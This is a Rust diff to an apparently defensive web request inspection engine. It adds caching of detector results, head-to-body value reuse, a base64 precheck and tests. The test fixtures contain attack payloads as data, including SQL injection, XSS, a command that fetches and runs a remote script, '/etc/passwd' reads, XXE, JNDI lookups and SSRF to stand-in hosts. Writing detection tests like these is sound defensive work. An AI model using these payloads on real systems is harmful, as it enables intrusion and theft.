@@ -105,6 +105,56 @@ struct Decoded<'a> {
     text: Cow<'a, str>,
 }
 
+/// What a value's first occurrence in a phase left for identical ones.
+struct Memo {
+    /// Index of that value (its decoded text is `texts[value]`).
+    value: usize,
+    layers: decode::Layers,
+    lower: String,
+    ascii: u128,
+    triggers: u32,
+    /// The hits of the [`NAME_BLIND`] detectors, by index in
+    /// `VALUE_DETECTORS`.
+    results: Vec<(usize, Hit)>,
+    /// Where the value came from, and its raw text.
+    part: Part,
+    is_key: bool,
+}
+
+/// Value detectors whose result depends only on the value (part, text,
+/// key or value), never on its name: an identical value under another name
+/// gets the same result. Checked by the `name_blind_detectors` test; a
+/// detector that starts reading `Subject::name` must leave this list.
+const NAME_BLIND: &[&str] = &[
+    "sqli",
+    "xss",
+    "cmdi",
+    "traversal",
+    "ssrf",
+    "xxe",
+    "ssti",
+    "ldap",
+    "jndi",
+    "crlf",
+];
+
+/// Distinct values remembered per phase: bounds the search for an
+/// identical one.
+const MEMO_VALUES: usize = 64;
+
+/// Bit `i` set when `VALUE_DETECTORS[i]` is in [`NAME_BLIND`].
+fn name_blind_mask() -> u64 {
+    static MASK: std::sync::OnceLock<u64> = std::sync::OnceLock::new();
+    *MASK.get_or_init(|| {
+        detectors::VALUE_DETECTORS
+            .iter()
+            .enumerate()
+            .take(64)
+            .filter(|(_, d)| NAME_BLIND.contains(&d.kind))
+            .fold(0, |m, (i, _)| m | 1 << i)
+    })
+}
+
 impl Default for Engine {
     fn default() -> Self {
         // the default config has no files to read and valid built-ins
@@ -123,8 +173,11 @@ impl Engine {
     /// Unlike the gateway, which stops after a blocking head phase, this runs
     /// the body phase too, so every finding is recorded.
     pub fn inspect(&self, ex: &mut Exchange) -> Verdict {
-        let head = self.phase(ex, true);
-        let body = self.phase(ex, false);
+        // the head phase hands the body phase the query and cookie values
+        // it decoded, which the body phase's rules read again
+        let mut head_args = None;
+        let head = self.phase(ex, true, Some(&mut head_args));
+        let body = self.phase(ex, false, Some(&mut head_args));
         head.max(body)
     }
 
@@ -142,9 +195,17 @@ impl Engine {
         &self.rules
     }
 
-    fn phase(&self, ex: &mut Exchange, head: bool) -> Verdict {
+    /// One phase. `carry`, when given, takes the head phase's decoded query
+    /// and cookie values to the body phase of the same exchange.
+    fn phase(
+        &self,
+        ex: &mut Exchange,
+        head: bool,
+        mut carry: Option<&mut Option<Vec<Decoded<'static>>>>,
+    ) -> Verdict {
         let mut new: Vec<Finding> = Vec::new();
         let mut forced = Verdict::Allow;
+        let body_rules = self.rules.rules.iter().any(|r| !r.head);
         {
             let req = &ex.request;
             let extracted = if head {
@@ -152,6 +213,9 @@ impl Engine {
             } else {
                 extract::body(req, &self.limits)
             };
+            // with every head value kept, the query and cookie values are
+            // those `extract::head_args` gives, in the same order
+            let complete = !extracted.overflows.contains(&Overflow::TooManyValues);
             let mut hits: Vec<(String, Hit)> = Vec::new();
             for d in detectors::REQUEST_DETECTORS {
                 (d.run)(req, head, &mut hits);
@@ -160,9 +224,27 @@ impl Engine {
                 push_finding(&mut new, &loc, "", hit, None);
             }
             overflow_findings(&extracted, &mut new);
-            let decoded = self.detect_values(&extracted, &mut new);
+            let decoded = self.detect_values(extracted, &mut new);
+            if head
+                && complete
+                && body_rules
+                && let Some(c) = carry.as_deref_mut()
+            {
+                *c = Some(
+                    decoded
+                        .iter()
+                        .filter(|d| matches!(d.part, Part::Query | Part::Cookie))
+                        .map(|d| Decoded {
+                            part: d.part,
+                            name: Cow::Owned(d.name.to_string()),
+                            is_key: d.is_key,
+                            text: Cow::Owned(d.text.to_string()),
+                        })
+                        .collect(),
+                );
+            }
             // rules see the head's values in the body phase too
-            let head_values;
+            let head_values: Vec<Decoded<'_>>;
             let mut all: Vec<RuleValue<'_>> = decoded
                 .iter()
                 .map(|d| RuleValue {
@@ -172,8 +254,11 @@ impl Engine {
                     text: &d.text,
                 })
                 .collect();
-            if !head && self.rules.rules.iter().any(|r| !r.head) {
-                head_values = decode_head_args(&extract::head_args(req, &self.limits));
+            if !head && body_rules {
+                head_values = match carry.and_then(Option::take) {
+                    Some(v) => v,
+                    None => decode_head_args(&extract::head_args(req, &self.limits)),
+                };
                 all.extend(head_values.iter().map(|d| RuleValue {
                     part: d.part,
                     name: &d.name,
@@ -295,55 +380,99 @@ impl Engine {
     }
 
     /// Decodes every value and runs the value detectors on it.
+    ///
+    /// A value identical to one seen before in this phase (same part, same
+    /// raw text, both values or both keys) only differs from it by its name:
+    /// the detectors that never read the name ([`NAME_BLIND`]) give the same
+    /// result, so theirs are reused; the others run again.
     fn detect_values<'a>(
         &self,
-        extracted: &Extracted<'a>,
+        extracted: Extracted<'a>,
         out: &mut Vec<Finding>,
     ) -> Vec<Decoded<'a>> {
-        let mut kept = Vec::with_capacity(extracted.values.len());
-        for v in &extracted.values {
+        let values = &extracted.values;
+        let mut texts: Vec<Cow<'a, str>> = Vec::with_capacity(values.len());
+        let mut memo: Vec<Memo> = Vec::new();
+        for (idx, v) in values.iter().enumerate() {
             // structural headers only meet JNDI and CRLF, which need a `$`,
             // a line break, an escape or a request line to fire
             if v.part == Part::HeaderStructural && !structural_may_carry(&v.raw) {
-                kept.push(Decoded {
-                    part: v.part,
-                    name: v.name.clone(),
-                    is_key: v.is_key,
-                    text: v.raw.clone(),
-                });
+                texts.push(v.raw.clone());
                 continue;
             }
-            let (decoded, layers) = decode_cow(&v.raw);
+            let earlier = memo.iter().position(|m| {
+                m.part == v.part
+                    && m.is_key == v.is_key
+                    && values.get(m.value).is_some_and(|w| w.raw == v.raw)
+            });
+            let (decoded, layers) = earlier
+                .and_then(|m| memo.get(m))
+                .and_then(|m| Some((texts.get(m.value)?.clone(), m.layers)))
+                .unwrap_or_else(|| decode_cow(&v.raw));
             let plain = !v.is_key
                 && detectors::is_plain(&decoded)
                 && !detectors::name_is_suspicious(&v.name)
                 && !detectors::code::serialized_magic(&decoded);
+            // a user agent in the plain RFC 9110 product/comment grammar
+            // carries no payload any value detector looks for
+            if !plain
+                && v.part == Part::Header
+                && v.name.eq_ignore_ascii_case("user-agent")
+                && detectors::is_clean_user_agent(&decoded)
+            {
+                let lower = match earlier.and_then(|m| memo.get(m)) {
+                    Some(m) => Cow::Borrowed(m.lower.as_str()),
+                    None => Cow::Owned(decode::normalize(&decoded)),
+                };
+                // (the browsers' token first: it settles most user agents)
+                if detectors::triggers(&ua_without_engine_token(&lower)) == 0
+                    || detectors::triggers(&lower) == 0
+                {
+                    texts.push(decoded);
+                    continue;
+                }
+            }
             if !plain {
-                let lower = decode::normalize(&decoded);
-                let ascii = detectors::ascii_mask(&lower);
-                let triggers = detectors::triggers(&lower);
+                let mut fresh = None;
+                let m: &Memo = match earlier.and_then(|m| memo.get(m)) {
+                    Some(m) => m,
+                    None => {
+                        let lower = decode::normalize(&decoded);
+                        fresh.insert(Memo {
+                            value: idx,
+                            part: v.part,
+                            is_key: v.is_key,
+                            layers,
+                            ascii: detectors::ascii_mask(&lower),
+                            triggers: detectors::triggers(&lower),
+                            lower,
+                            results: Vec::new(),
+                        })
+                    }
+                };
                 let subject = Subject {
                     part: v.part,
                     name: &v.name,
                     is_key: v.is_key,
                     raw: &v.raw,
                     decoded: &decoded,
-                    lower: &lower,
+                    lower: &m.lower,
                     layers,
-                    ascii,
-                    triggers,
+                    ascii: m.ascii,
+                    triggers: m.triggers,
                 };
-                // a user agent in the plain RFC 9110 product/comment grammar
-                // carries no payload any value detector looks for
-                let clean_ua = v.part == Part::Header
-                    && v.name.eq_ignore_ascii_case("user-agent")
-                    && detectors::is_clean_user_agent(&decoded)
-                    && (triggers == 0
-                        || detectors::triggers(&ua_without_engine_token(&lower)) == 0);
-                let found = !clean_ua && run_value_detectors(&subject, v, out, None);
+                let prior = earlier.is_some().then_some(m.results.as_slice());
+                let (found, results) = run_value_detectors(&subject, v, out, None, prior);
                 // a value that is base64 of text is inspected as that text too
-                if !found && !clean_ua {
+                if !found {
                     inspect_base64(&subject, v, out);
+                }
+                // remember the first occurrence
+                if let Some(mut f) = fresh
+                    && memo.len() < MEMO_VALUES
+                {
+                    f.results = results;
+                    memo.push(f);
                 }
             } else if decoded.len() >= 12 {
                 // unpadded base64 is made of word characters only: the fast
@@ -361,14 +490,19 @@ impl Engine {
                 };
                 inspect_base64(&subject, v, out);
             }
-            kept.push(Decoded {
-                part: v.part,
-                name: v.name.clone(),
-                is_key: v.is_key,
-                text: decoded,
-            });
+            texts.push(decoded);
         }
-        kept
+        extracted
+            .values
+            .into_iter()
+            .zip(texts)
+            .map(|(v, text)| Decoded {
+                part: v.part,
+                name: v.name,
+                is_key: v.is_key,
+                text,
+            })
+            .collect()
     }
 
     /// The verdict for everything in `ex.findings`.
@@ -399,12 +533,15 @@ impl Engine {
 /// Whether a structural header value holds anything the header-level
 /// detectors (JNDI lookups, CRLF and request-line injection) start from.
 fn structural_may_carry(raw: &str) -> bool {
-    raw.bytes()
-        .any(|b| matches!(b, b'$' | b'%' | b'\r' | b'\n' | b'\\' | b'&' | b'\0') || !b.is_ascii())
-        || raw
-            .as_bytes()
-            .windows(5)
-            .any(|w| w.eq_ignore_ascii_case(b"http/"))
+    let b = raw.as_bytes();
+    b.iter()
+        .any(|&b| matches!(b, b'$' | b'%' | b'\r' | b'\n' | b'\\' | b'&' | b'\0') || !b.is_ascii())
+        // `http/` anywhere: look behind each `/`
+        || memchr::memchr_iter(b'/', b).any(|p| {
+            p >= 4
+                && b.get(p - 4..p)
+                    .is_some_and(|w| w.eq_ignore_ascii_case(b"http"))
+        })
 }
 
 /// Decodes a value, borrowing from the request when it can.
@@ -438,6 +575,9 @@ fn decode_head_args<'a>(extracted: &Extracted<'a>) -> Vec<Decoded<'a>> {
 /// Runs the value detectors on the text a value is base64 of, if it is
 /// (in every part but structural headers, which never reach here).
 fn inspect_base64(subject: &Subject<'_>, v: &extract::Value<'_>, out: &mut Vec<Finding>) {
+    if !may_be_base64(subject.decoded) {
+        return;
+    }
     let Some(b64) = decode::base64_text(subject.decoded) else {
         return;
     };
@@ -451,8 +591,57 @@ fn inspect_base64(subject: &Subject<'_>, v: &extract::Value<'_>, out: &mut Vec<F
         triggers: detectors::triggers(&lower2),
         ..*subject
     };
-    run_value_detectors(&s2, v, out, Some("base64"));
+    run_value_detectors(&s2, v, out, Some("base64"), None);
 }
+
+/// Whether `decode::base64_text` could accept `s`. It trims whitespace at
+/// both ends and then needs every byte to be of a base64 alphabet or the `=`
+/// padding: a printable byte of neither rules `s` out, and so does a byte up
+/// to a space (which may be whitespace, trimmed only at the ends) between two
+/// bytes of the alphabet.
+fn may_be_base64(s: &str) -> bool {
+    let mut alphabet_seen = false;
+    let mut gap = false;
+    for &b in s.as_bytes() {
+        match B64_CLASS[usize::from(b)] {
+            B64 => {
+                if gap {
+                    return false;
+                }
+                alphabet_seen = true;
+            }
+            BLANK => gap |= alphabet_seen,
+            NOT_B64 => return false,
+            _ => {}
+        }
+    }
+    true
+}
+
+/// `B64_CLASS`: a byte of a base64 alphabet or `=`; a byte up to a space;
+/// another ASCII byte; a byte of a multi-byte character (which may be
+/// whitespace): `OTHER`.
+const B64: u8 = 0;
+const BLANK: u8 = 1;
+const NOT_B64: u8 = 2;
+const OTHER: u8 = 3;
+
+static B64_CLASS: [u8; 256] = {
+    let mut t = [OTHER; 256];
+    let mut c = 0;
+    while c < 128 {
+        let b = c as u8;
+        t[c] = if b <= b' ' {
+            BLANK
+        } else if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=') {
+            B64
+        } else {
+            NOT_B64
+        };
+        c += 1;
+    }
+    t
+};
 
 /// A user agent without the `(KHTML, like Gecko)` token every WebKit and
 /// Blink browser sends: its `like` is not SQL, but any other trigger word in
@@ -461,26 +650,38 @@ fn ua_without_engine_token(lower: &str) -> String {
     lower.replace("(khtml, like gecko)", "")
 }
 
-/// Runs the value detectors; whether any fired.
+/// Runs the value detectors; whether any fired, and the hits of the
+/// [`NAME_BLIND`] ones (taken from `prior` when given: an identical value's).
 fn run_value_detectors(
     s: &Subject<'_>,
     v: &extract::Value<'_>,
     out: &mut Vec<Finding>,
     via: Option<&str>,
-) -> bool {
+    prior: Option<&[(usize, Hit)]>,
+) -> (bool, Vec<(usize, Hit)>) {
     let mut any = false;
     let mut loc: Option<String> = None;
-    for d in detectors::VALUE_DETECTORS {
+    let mut blind_hits = Vec::new();
+    let blind_mask = name_blind_mask();
+    for (i, d) in detectors::VALUE_DETECTORS.iter().enumerate() {
         if !(d.applies)(s) {
             continue;
         }
-        if let Some(hit) = (d.run)(s) {
+        let blind = i < 64 && blind_mask & (1 << i) != 0;
+        let hit = match prior {
+            Some(p) if blind => p.iter().find(|(j, _)| *j == i).map(|(_, h)| h.clone()),
+            _ => (d.run)(s),
+        };
+        if let Some(hit) = hit {
             let l = loc.get_or_insert_with(|| v.location());
+            if blind {
+                blind_hits.push((i, hit.clone()));
+            }
             push_finding(out, l, &v.name, hit, via);
             any = true;
         }
     }
-    any
+    (any, blind_hits)
 }
 
 fn fragment_for(location: &str, text: &str) -> Masked {
@@ -600,10 +801,278 @@ impl Inspector for Engine {
     }
 
     fn request_filter(&self, ex: &mut Exchange) -> Result<Verdict, InspectError> {
-        Ok(self.phase(ex, true))
+        Ok(self.phase(ex, true, None))
     }
 
     fn request_body_filter(&self, ex: &mut Exchange) -> Result<Verdict, InspectError> {
-        Ok(self.phase(ex, false))
+        Ok(self.phase(ex, false, None))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use palisade_core::{Body, RequestPart};
+    use proptest::prelude::*;
+
+    /// `decode::normalize` as it was before it was rewritten for speed.
+    fn normalize_reference(s: &str) -> String {
+        fn push_space(out: &mut String, last_space: &mut bool) {
+            if !*last_space {
+                out.push(' ');
+                *last_space = true;
+            }
+        }
+        let utf8_len = |b: u8| match b {
+            0x00..=0x7F => 1,
+            0xC0..=0xDF => 2,
+            0xE0..=0xEF => 3,
+            _ => 4,
+        };
+        let mut out = String::with_capacity(s.len());
+        let b = s.as_bytes();
+        let mut i = 0;
+        let mut last_space = false;
+        while i < b.len() {
+            let c = b[i];
+            if c == b'/' && b.get(i + 1) == Some(&b'*') {
+                let bang = b.get(i + 2) == Some(&b'!');
+                let end =
+                    memchr::memmem::find(b.get(i + 2..).unwrap_or(&[]), b"*/").map(|e| i + 2 + e);
+                if bang {
+                    let mut j = i + 3;
+                    while b.get(j).is_some_and(u8::is_ascii_digit) {
+                        j += 1;
+                    }
+                    i = j;
+                    push_space(&mut out, &mut last_space);
+                    continue;
+                }
+                push_space(&mut out, &mut last_space);
+                i = end.map_or(b.len(), |e| e + 2);
+                continue;
+            }
+            if c == b'*' && b.get(i + 1) == Some(&b'/') {
+                push_space(&mut out, &mut last_space);
+                i += 2;
+                continue;
+            }
+            if c.is_ascii_whitespace() || c == 0x0b || (c < 0x20) || c == 0x7f {
+                if c != 0 {
+                    push_space(&mut out, &mut last_space);
+                }
+                i += 1;
+                continue;
+            }
+            if c < 0x80 {
+                out.push(char::from(c.to_ascii_lowercase()));
+                last_space = false;
+                i += 1;
+                continue;
+            }
+            let ch_len = utf8_len(c);
+            if let Some(chunk) = s.get(i..i + ch_len) {
+                for ch in chunk.chars() {
+                    if ch.is_whitespace() {
+                        push_space(&mut out, &mut last_space);
+                    } else {
+                        for l in ch.to_lowercase() {
+                            out.push(l);
+                        }
+                        last_space = false;
+                    }
+                }
+            }
+            i += ch_len.max(1);
+        }
+        out
+    }
+
+    proptest! {
+        #[test]
+        fn normalize_is_unchanged(s in "(?s).{0,48}") {
+            prop_assert_eq!(decode::normalize(&s), normalize_reference(&s));
+        }
+
+        #[test]
+        fn normalize_is_unchanged_on_comments(
+            s in "([aZ0-9 \\t\\n\\x00\\x0b\\x7f!*/é\u{a0}\u{3000}\u{130}Σ]|/\\*!?|\\*/){0,24}"
+        ) {
+            prop_assert_eq!(decode::normalize(&s), normalize_reference(&s));
+        }
+
+        #[test]
+        fn base64_precheck_only_drops_what_is_not_base64(
+            s in "[A-Za-z0-9+/=_ \\t\\x0b\\x01'\";:.é\u{3000}\u{a0}-]{0,28}"
+        ) {
+            if !may_be_base64(&s) {
+                prop_assert!(decode::base64_text(&s).is_none(), "{:?}", s);
+            }
+        }
+    }
+
+    #[test]
+    fn base64_precheck_keeps_base64() {
+        for s in [
+            "JyBvciAxPTEtLQ",
+            "JChpZCk=",
+            " JyBPUiAxPTEgLS0gLQ== ",
+            "\u{3000}JChpZCk=\t",
+            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
+        ] {
+            assert!(may_be_base64(s), "{s:?}");
+            assert!(decode::base64_text(s).is_some(), "{s:?}");
+        }
+        for s in [
+            "O'Brien",
+            "a b c d e f g h",
+            "x;y",
+            "Please select the union plan",
+        ] {
+            assert!(!may_be_base64(s), "{s:?}");
+        }
+    }
+
+    /// The detectors reused across identical values must not read the name.
+    #[test]
+    fn name_blind_detectors() {
+        let payloads = [
+            "1' or '1'='1",
+            "x' union select password from users--",
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "; cat /etc/passwd",
+            "$(curl http://x.example/s.sh)",
+            "../../../../etc/passwd",
+            "http://127.0.0.1/admin",
+            "gopher://evil.example:70/_x",
+            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+            "{{7*7}}",
+            "${jndi:ldap://x.example/a}",
+            "*)(uid=*))(|(uid=*",
+            "a\r\nSet-Cookie: x=1",
+            "{\"$where\": \"sleep(100)\"}",
+            "Please select the union plan; O'Brien's order",
+            "https://shop.example.com/success?session_id={CHECKOUT_SESSION_ID}",
+            "Drop off at the back door, ring twice",
+            "/v1/checkout/sessions",
+            "Café latte x0",
+        ];
+        let names = [
+            "q",
+            "__proto__",
+            "constructor.prototype.x",
+            "class.module.classLoader",
+            "java.lang.Runtime",
+            "$where",
+            "url",
+            "user-agent",
+        ];
+        let parts = [
+            Part::Query,
+            Part::Json,
+            Part::Header,
+            Part::Path,
+            Part::Form,
+        ];
+        for d in detectors::VALUE_DETECTORS
+            .iter()
+            .filter(|d| NAME_BLIND.contains(&d.kind))
+        {
+            for raw in payloads {
+                for part in parts {
+                    let first = format!(
+                        "{:?}",
+                        detectors::test_util::run_in(d.run, part, names[0], raw)
+                    );
+                    for name in &names[1..] {
+                        let other =
+                            format!("{:?}", detectors::test_util::run_in(d.run, part, name, raw));
+                        assert_eq!(first, other, "{} on {raw:?} named {name}", d.kind);
+                    }
+                }
+            }
+        }
+    }
+
+    fn exchange(method: &str, target: &str, ct: Option<&str>, body: &str) -> Exchange {
+        let mut headers = vec![
+            ("Host".to_string(), "api.example".to_string()),
+            ("User-Agent".to_string(), "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36".to_string()),
+            ("Cookie".to_string(), "sid=abc; theme=x.oast.pro".to_string()),
+        ];
+        if let Some(ct) = ct {
+            headers.push(("Content-Type".to_string(), ct.to_string()));
+        }
+        Exchange {
+            request: RequestPart {
+                method: method.into(),
+                target: target.into(),
+                headers,
+                body: Body::new(body.as_bytes().to_vec()),
+                ..Default::default()
+            },
+            ..Default::default()
+        }
+    }
+
+    /// `inspect` hands the head's query and cookie values to the body phase;
+    /// the phases run apart (as the gateway runs them) find the same.
+    #[test]
+    fn inspect_matches_separate_phases() {
+        let many = (0..40)
+            .map(|i| format!("k{i}=v{i}"))
+            .collect::<Vec<_>>()
+            .join("&");
+        let cases = [
+            exchange(
+                "GET",
+                "/v1/x?q=cb.oast.pro&sid=1&n=1%27+or+%271%27%3D%271&n=1%27+or+%271%27%3D%271",
+                None,
+                "",
+            ),
+            exchange(
+                "POST",
+                "/v1/x?PHPSESSID=1&r=document.cookie",
+                Some("application/json"),
+                r#"{"a":"x.interact.sh","b":"x.interact.sh","c":{"a":"1' or '1'='1"}}"#,
+            ),
+            exchange(
+                "POST",
+                &format!("/v1/x?{many}&q=cb.oast.pro"),
+                Some("application/x-www-form-urlencoded"),
+                "a=1&b=cb.oast.pro",
+            ),
+        ];
+        for limits in [
+            Limits::default(),
+            Limits {
+                max_values: 12,
+                ..Limits::default()
+            },
+        ] {
+            let engine = DetectConfig {
+                limits: limits.clone(),
+                ..DetectConfig::default()
+            }
+            .build()
+            .unwrap_or_else(|d| panic!("{d}"));
+            for ex in &cases {
+                let mut both = ex.clone();
+                let v = engine.inspect(&mut both);
+                let mut apart = ex.clone();
+                let h = engine.request_filter(&mut apart).unwrap_or(Verdict::Allow);
+                let b = engine
+                    .request_body_filter(&mut apart)
+                    .unwrap_or(Verdict::Allow);
+                assert_eq!(v, h.max(b));
+                assert_eq!(both.findings, apart.findings);
+                assert!(
+                    both.findings
+                        .iter()
+                        .any(|f| f.rule_id == "builtin.oob.callback_domain")
+                );
+            }
+        }
     }
 }
